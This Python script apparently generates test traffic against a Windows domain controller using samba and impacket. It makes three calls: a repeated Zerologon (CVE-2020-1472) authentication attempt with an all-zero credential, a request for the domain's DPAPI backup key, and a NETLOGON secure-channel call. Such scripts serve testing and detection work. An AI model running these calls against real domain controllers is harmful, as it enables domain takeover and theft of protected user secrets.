#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""rpc_scene.py - calls that no tool of Debian's makes, by Debian's python3-samba and python3-impacket.

    rpc_scene.py zerologon CONTROLLER NAME TRIES       CVE-2020-1472's test: a secure channel with a credential of zeros; a domain
                                                       controller of today refuses it, and nothing is set
    rpc_scene.py backupkey CONTROLLER USER PASSWORD    the domain's DPAPI backup key is asked for
    rpc_scene.py channel BINDING COMPUTER PASSWORD     NETLOGON's secure channel, and a call within
"""
import sys

from samba import NTSTATUSError
from samba.credentials import Credentials, DONT_USE_KERBEROS
from samba.dcerpc import misc, netlogon
from samba.param import LoadParm


def zerologon(controller, name, tries):
    connection = netlogon.netlogon("ncacn_ip_tcp:%s" % controller, LoadParm())
    nothing = netlogon.netr_Credential()
    nothing.data = [0] * 8
    for _ in range(int(tries)):
        try:
            connection.netr_ServerReqChallenge("\\\\" + controller, name, nothing)
            connection.netr_ServerAuthenticate3("\\\\" + controller, name + "$", misc.SEC_CHAN_BDC, name, nothing, 0x212fffff)
        except NTSTATUSError:
            pass


def backup_key(controller, user, password):
    from impacket.dcerpc.v5 import bkrp, transport
    from impacket.dcerpc.v5.rpcrt import DCERPCException, RPC_C_AUTHN_LEVEL_PKT_PRIVACY
    pipe = transport.DCERPCTransportFactory("ncacn_np:%s[\\pipe\\protected_storage]" % controller)
    pipe.set_credentials(user, password, "CORP")
    connection = pipe.get_dce_rpc()
    connection.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    connection.connect()
    connection.bind(bkrp.MSRPC_UUID_BKRP)
    try:
        bkrp.hBackuprKey(connection, bkrp.BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID, b"\0")
    except DCERPCException:
        pass


def channel(binding, computer, password):
    lp = LoadParm()
    credentials = Credentials()
    credentials.guess(lp)
    credentials.set_username(computer + "$")
    credentials.set_workstation(computer)
    credentials.set_domain("CORP")
    credentials.set_password(password)
    credentials.set_secure_channel_type(misc.SEC_CHAN_WKSTA)
    credentials.set_kerberos_state(DONT_USE_KERBEROS)
    connection = netlogon.netlogon(binding, lp, credentials)
    connection.netr_DsRGetDCNameEx(None, "corp.example", None, None, 0)


def main():
    {"zerologon": zerologon, "backupkey": backup_key, "channel": channel}[sys.argv[1]](*sys.argv[2:])


if __name__ == "__main__":
    main()
